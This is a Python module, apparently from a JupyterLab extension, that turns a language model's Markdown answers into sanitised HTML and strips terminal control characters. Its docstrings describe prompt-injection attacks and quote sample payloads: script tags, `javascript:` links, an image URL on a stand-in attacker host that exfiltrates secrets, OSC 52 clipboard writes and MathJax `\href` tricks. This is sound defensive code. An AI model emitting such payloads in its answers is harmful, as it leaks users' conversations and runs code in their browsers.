"""The one place that turns text from a model or a server into something safe to show.

Why this exists: JupyterLab trusts every output a kernel produces live (and a notebook
is marked trusted again when the user saves it), so ``text/markdown`` or ``text/html``
holding a model's raw answer runs any ``<script>``, ``onerror=`` or ``javascript:`` in
it, as the user, with the page's XSRF cookie.  A prompt injection hidden in the data
being summarised would then be code execution.  So:

- :func:`markdown_to_safe_html`: the Markdown is rendered here, in the kernel, by
  markdown-it-py (CommonMark, raw HTML **off**: ``<script>`` stays text), and the result
  is sanitised by nh3 (ammonia) with a small allow-list, in case a renderer rule ever
  lets something through.  Rendering here rather than escaping HTML and sending
  ``text/markdown`` because then the frontend's Markdown dialect (and its own raw-HTML
  handling) would still decide what runs; here one well-kept parser and one sanitiser do.
  Math (``$…$``, ``$$…$$``, ``\\(…\\)``, ``\\[…\\]``) is kept out of emphasis processing and
  sent, HTML-escaped, between ``\\(…\\)`` / ``\\[…\\]`` for JupyterLab's MathJax to typeset.
  Images become links: an image loads without a click, so an injected
  ``![](https://evil.example/?q=<secrets>)`` would send the conversation away.
- :func:`strip_controls`: C0/C1 control characters (ANSI CSI/OSC sequences such as an
  OSC 52 clipboard write) are removed from everything printed to stdout or sent as
  ``text/plain``, which terminal IPython and ``jupyter console`` print as they are.

Server-supplied names (model ids, providers) that go into HTML are escaped with
``html.escape`` like every other figure this package puts into HTML.

Imports only the standard library at load time: markdown-it-py, its plugins and nh3
are imported when the first cell starts streaming (:func:`warm_up`, in a background
thread) or on the first answer rendered, so ``%load_ext edge_jupyter`` stays cheap.
"""

from __future__ import annotations

import html
import re
import threading
from functools import lru_cache
from typing import Any

# Everything below U+0020 except TAB and LF, DEL, and the C1 range U+0080-U+009F.
# CR is dropped too, not turned into LF: a lone CR moves a terminal's cursor back to
# the start of the line, so later text overwrites (hides) what came before it, and
# dropping it is the only choice that is the same whether a CRLF arrives in one
# streamed chunk or is split across two (turning CR into LF would double every split
# CRLF's line break).  Models end lines with LF; nothing of theirs is lost.
_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]+")


def strip_controls(text: str) -> str:
    """``text`` without C0/C1 control characters, DEL and CR (TAB and LF kept).

    Runs on every streamed chunk: one compiled regex, and a chunk with nothing to remove
    (nearly all of them) costs a single scan and is returned as it is.  Measured here on
    a 90-character chunk: 1.3 µs, against 5.8 µs for ``str.translate`` with a table; on
    1 MB, 10 ms against 111 ms.
    """
    if _CONTROLS.search(text) is None:
        return text
    return _CONTROLS.sub("", text)


# -- Markdown -------------------------------------------------------------------------------

_TAGS = {"p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "s", "del",
         "code", "pre", "blockquote", "ul", "ol", "li", "table", "thead", "tbody", "tr",
         "th", "td", "a", "span", "div"}
_ALIGN = {"text-align:left", "text-align:center", "text-align:right"}
_LANGUAGE_CLASS = re.compile(r"language-[\w+#.-]{1,40}")
# MathJax macros that put text the model chose into markup: the html extension's links,
# classes, styles and ids (\href, \class, \style, \cssId; \data in 3.2), \mmlToken's
# attributes (href, style among them), \bbox's style (JupyterLab's MathJax 3 passes any
# "name:value" through unchecked, so "background:url(…)" loads a URL), \unicode's font and
# \require (loads extensions).  Such math is shown as code instead.  Left alone: the
# action extension (\toggle, \mathtip, \texttip) makes tooltips and toggles of math, no
# attributes or URLs; \ref/\eqref link only to the page's own equation ids.
_UNSAFE_TEX = re.compile(
    r"\\(?:href|style|class|cssId|data|unicode|require|mmlToken|bbox)(?![A-Za-z])")


def _allow_attribute(element: str, attribute: str, value: str) -> str | None:
    """The attribute values markdown-it itself writes; anything else is dropped."""
    if element == "code" and attribute == "class":
        return value if _LANGUAGE_CLASS.fullmatch(value) else None
    if element == "ol" and attribute == "start":
        return value if value.isdigit() and len(value) < 10 else None
    return value


@lru_cache(maxsize=1)
def _cleaner() -> Any:
    import nh3

    return nh3.Cleaner(
        tags=_TAGS, clean_content_tags={"script", "style"},
        attributes={"a": {"href", "title"}, "code": {"class"}, "ol": {"start"}},
        tag_attribute_values={"th": {"style": _ALIGN}, "td": {"style": _ALIGN}},
        attribute_filter=_allow_attribute, url_schemes={"http", "https", "mailto"},
        url_relative="deny", link_rel="noopener noreferrer", strip_comments=True)


def _math(token: Any, display: bool, block: bool) -> str:
    if _UNSAFE_TEX.search(token.content):
        closing = {"\\(": "\\)", "\\[": "\\]"}.get(token.markup, token.markup)
        return f"<code>{html.escape(token.markup + token.content + closing)}</code>"
    body = html.escape(token.content)
    math = f"\\[{body}\\]" if display else f"\\({body}\\)"
    # "$$…$$" inside a paragraph stays inline markup: a <div> there would end the <p>.
    return f"<div>{math}</div>\n" if block else f"<span>{math}</span>"


def _inert_text(text: str) -> str:
    """Plain text, HTML-escaped, that JupyterLab's MathJax cannot typeset.

    MathJax reads the page's text nodes (entities are already decoded there, so an
    escaped ``&#92;`` would not help) and pairs "$" with "$" ("costs $5 or $10" typeset
    as math), and also typesets ``\\(…\\)``, ``\\[…\\]``, ``\\begin{…}…\\end{…}`` and
    ``\\ref``: text that reaches here never went through the :data:`_UNSAFE_TEX` check, so
    ``\\\\(\\href{javascript:…}{x}\\\\)`` in an answer would become a link.  A delimiter
    cannot span elements, and every one of them starts with "\\" or "$": each of those
    alone in its own ``<span>`` can start nothing.
    """
    return (html.escape(text, quote=False).replace("\\", "<span>\\</span>")
            .replace("$", "<span>$</span>"))


@lru_cache(maxsize=1)
def _markdown() -> Any:
    from markdown_it import MarkdownIt
    from mdit_py_plugins.dollarmath import dollarmath_plugin
    from mdit_py_plugins.texmath import texmath_plugin

    md = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
    # "$5 or $10" is money, not math (pandoc's rule): no space just inside a dollar,
    # no digit just after the closing one.
    md.use(dollarmath_plugin, allow_space=False, allow_digits=False, double_inline=True,
           allow_labels=False)
    md.use(texmath_plugin, delimiters="brackets")  # \(…\) and \[…\] blocks
    # One rendering for every math token, whichever plugin made it (texmath would
    # otherwise write <eq>/<eqn>, which no frontend typesets).
    for name, display, block in (("math_inline", False, False),
                                 ("math_inline_double", True, False),
                                 ("math_block", True, True), ("math_block_eqno", True, True),
                                 ("math_block_label", True, True)):
        md.add_render_rule(name, lambda self, tokens, idx, options, env, d=display, b=block:
                           _math(tokens[idx], d, b))

    def text(self: Any, tokens: list[Any], idx: int, options: Any, env: Any) -> str:
        return _inert_text(tokens[idx].content)

    def image(self: Any, tokens: list[Any], idx: int, options: Any, env: Any) -> str:
        token = tokens[idx]
        alt = self.renderInlineAsText(token.children or [], options, env) or "image"
        return f'<a href="{html.escape(token.attrGet("src") or "")}">🖼 {_inert_text(alt)}</a>'

    md.add_render_rule("text", text)
    md.add_render_rule("image", image)
    return md


_warming = threading.Lock()
_warmed = False


def warm_up() -> None:
    """Import and build the renderer and the sanitiser in a background thread, once.

    Called when a cell starts streaming: the first answer of a session would otherwise
    pay ≈ 60 ms (importing markdown-it-py and its plugins, building the parser) after its
    last token, on the way to the cost line; while tokens arrive the kernel mostly waits
    on the socket, so the thread's work hides there.  Best effort: nothing it does can
    raise into the cell (a failure here is met again, and reported, by the render).
    """
    global _warmed
    with _warming:
        if _warmed:
            return
        _warmed = True

    def build() -> None:
        try:
            _markdown()
            _cleaner()
        except Exception:  # the render itself meets, and reports, any real problem
            pass

    try:
        threading.Thread(target=build, name="edge-render-warm-up", daemon=True).start()
    except RuntimeError:  # no thread to be had (interpreter shutting down): render cold
        pass


def markdown_to_safe_html(text: str) -> str:
    """A model's Markdown answer as HTML that cannot run anything in the browser."""
    html_text = _markdown().render(strip_controls(text))
    return _cleaner().clean(html_text)
